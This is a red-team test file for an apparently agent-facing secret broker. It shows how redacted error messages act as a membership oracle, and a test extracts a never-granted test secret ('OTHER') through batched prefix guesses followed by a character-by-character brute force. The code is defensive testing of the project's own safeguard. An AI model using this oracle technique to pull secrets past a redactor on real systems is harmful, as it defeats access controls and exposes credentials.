// Red team of issue 18, family 2 through the error path. Error messages are scrubbed with
// Redactor.redact (src/redact/response.ts scrubError), which marks a window in place: no
// tripwire, no allowance, no withholding. A careless upstream that echoes the caller's text in a
// header the client refuses (an unknown Content-Encoding) puts that text, 40 characters of it, into
// the error message (src/egress/client.ts decode()). A right guess then reads `[REDACTED:OTHER]`
// where a wrong one reads back as itself: an unbounded membership oracle, even on a value never
// placed. `it.fails` marks attacks that work today.
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempHome, type TempHome } from '../helpers/cli.js';
import { connectStdio, visible, type StdioSession } from '../helpers/mcp.js';
import { setSecret } from '../helpers/adversarial.js';
import { closeHomes, listenOn } from '../helpers/upstream.js';

// Bound elsewhere and never placed by the agent. Lowercase hex (the redactor folds case); the
// first four secret characters come early in the enumeration so the search below stays short.
const OTHER = 'sk_live_0a3f9c2e7b1d8a4c6e0f5b9d2a7c3e1f8b';
const KEY = 'rt-errors-Qz7Xv2Lp9Rt4Mn8Bc3Hd6';
const HEX = '0123456789abcdef';
const reverse = (s: string) => [...s].reverse().join('');

let up: { url: string; close(): Promise<void> };
const homes: Array<{ t: TempHome; s: StdioSession }> = [];

/** `/coding` answers with the caller's `q`, reversed back (a SQL REVERSE), as its Content-Encoding. */
async function startUpstream(): Promise<typeof up> {
  const server: Server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.pathname === '/coding') {
      res.writeHead(200, { 'content-type': 'text/plain', 'content-encoding': reverse(url.searchParams.get('q') ?? '') });
      // A large body: with a small one the server dies on this answer (see redteam-cost), which
      // would end the oracle after one question.
      return res.end('x'.repeat(100_000));
    }
    res.writeHead(404).end();
  });
  return listenOn(server);
}

async function fresh(): Promise<StdioSession> {
  const t = tempHome();
  await setSecret(t, 'KEY', KEY, '--host', up.url);
  await setSecret(t, 'OTHER', OTHER, '--host', 'https://other.example');
  const s = await connectStdio(t.env);
  homes.push({ t, s });
  return s;
}

beforeAll(async () => {
  up = await startUpstream();
});

afterAll(async () => {
  await closeHomes(homes, [KEY, OTHER]);
  await up.close();
});

const ask = (s: StdioSession, text: string) => s.call('http_request', { method: 'GET', url: `${up.url}/coding`, query: { q: reverse(text) } });

describe('redteam: error messages mark a guess in place (no tripwire, no allowance)', () => {
  it('a right guess of a value never placed gives the same view as a wrong one (or trips the wire)', async () => {
    const s = await fresh();
    const wrong = await ask(s, 'sk_live_0000');
    const right = await ask(s, OTHER.slice(0, 12));
    // Either the same text as a wrong guess, or the tripwire: never a marker in place.
    if (visible(right) !== visible(wrong).replace('sk_live_0000', OTHER.slice(0, 12))) {
      expect(visible(right)).toContain('REQUEST_REFUSED');
      expect(visible(await ask(s, 'x'))).toContain('PRINCIPAL_SUSPENDED');
    }
  });

  it('a value never placed is read back whole from its vendor prefix, three guesses per call, never suspended', async () => {
    const s = await fresh();
    const hit = (r: { content?: unknown }) => visible(r as never).includes('[REDACTED:OTHER]');
    let calls = 0;
    // The first window: the public prefix and 4 secret characters, three candidates per 40-character header.
    let known = '';
    // Candidates past the right one cannot hit (no other value shares them): the search stops a few
    // batches after the right one's, where the full enumeration would have found it.
    const past = parseInt(OTHER.slice(8, 12), 16) + 30;
    for (let n = 0; n < Math.min(16 ** 4, past) && known === ''; n += 3) {
      const batch = [n, n + 1, n + 2].map((k) => `sk_live_${k.toString(16).padStart(4, '0')}`);
      calls++;
      const r = await ask(s, batch.join(''));
      // Stopped by the tripwire: the attack ends with what it has.
      if (/REQUEST_REFUSED|PRINCIPAL_SUSPENDED/.test(visible(r))) break;
      if (!hit(r)) continue;
      for (const b of batch) {
        calls++;
        if (hit(await ask(s, b))) known = b;
      }
    }
    // Then one character at a time.
    while (known.length > 0 && known.length < OTHER.length) {
      let next: string | undefined;
      for (const c of HEX) {
        calls++;
        if (hit(await ask(s, known.slice(-11) + c))) {
          next = c;
          break;
        }
      }
      if (next === undefined) break;
      known += next;
    }
    expect(known === OTHER ? `read back in ${calls} calls` : 'not read back').toBe('not read back');
  }, 300_000);
});
